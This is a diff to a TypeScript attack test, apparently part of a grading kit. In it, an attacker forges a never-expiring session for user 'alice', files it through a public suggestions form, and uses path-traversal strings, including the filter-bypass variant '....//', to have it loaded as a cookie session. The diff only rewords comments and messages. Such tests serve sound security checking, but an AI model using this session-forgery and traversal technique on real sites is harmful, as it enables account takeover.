@@ -2,13 +2,13 @@ import { attack } from "../kit/grader/attack.ts";
 
 export default attack(
   "sending a path as a cookie",
-  "Somebody who can put a text on the disk can write their own session there, in any user's name.",
+  "A thief who can put a text on the disk can write a session there, in any user's name.",
   async ({ thief, say }) => {
     say("The thief has no account. He chooses a secret, and writes a session for alice.");
     const secret = "5e55107e".repeat(8);
     const times = { createdAt: FAR_AHEAD, lastSeen: FAR_AHEAD };
     const session = { username: "alice", basket: [], ...times, mark: await sha256(secret) };
-    say("He puts it into the box for suggestions, where anybody may put a text.");
+    say("He sends it as a suggestion, as every visitor may do.");
     const filed = await thief.post("/suggestions", { text: JSON.stringify(session) });
     const [path = ""] = /suggestions\/\d+/.exec(filed.response.body) ?? [];
     await thief.post("/basket", { item: "umbrella" });
@@ -27,7 +27,7 @@ export default attack(
 /** In epoch milliseconds, and after everybody's lifetime: a session that never ends. */
 const FAR_AHEAD = 1e15;
 
-/** Out of the sessions' folder: as it is, encoded, and for those who cut "../" out once. */
+/** Paths out of the sessions' folder: plain, encoded, and for code that removes "../" once. */
 const WAYS = ["../", "..%2f", "....//"];
 
 async function sha256(text: string): Promise<string> {
